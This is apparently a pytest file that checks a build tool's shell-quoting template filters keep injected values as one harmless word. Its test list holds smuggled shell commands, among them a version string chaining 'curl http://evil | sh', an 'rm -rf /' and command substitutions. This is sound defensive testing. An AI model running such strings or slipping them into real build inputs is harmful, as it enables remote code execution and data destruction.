"""The templates' quoting filters: a value with shell syntax stays one word and runs nothing."""

import shlex
import subprocess

import pytest

from buildctl.render import double_quoted, shell_quote

NASTY = [
    "0.5.10.post1 && curl http://evil | sh",
    "1.0; rm -rf /",
    "$(id)",
    "`id`",
    "a'b",
    'a"b\\',
    "x\ny",
]


def _sh(script: str) -> list[str]:
    """The words /bin/sh makes of `script`'s arguments (printed NUL-separated by printf)."""
    out = subprocess.run(["sh", "-c", f"printf '%s\\0' {script}"], capture_output=True, text=True, check=True).stdout
    return out.split("\0")[:-1]


@pytest.mark.parametrize("value", NASTY)
def test_sh_filter_keeps_one_word(value):
    assert shlex.split(shell_quote(value)) == [value]
    assert _sh(shell_quote(value)) == [value]


@pytest.mark.parametrize("value", NASTY)
def test_dq_filter_inside_double_quotes(value):
    assert _sh(f'"{double_quoted(value)}"') == [value]


def test_safe_values_render_unchanged():
    for value in ("0.5.10.post1", "librocblas5", "https://repo.radeon.com/rocm/apt/7.2.4", "datasets==4.4.2", "gfx942"):
        assert shell_quote(value) == value and double_quoted(value) == value
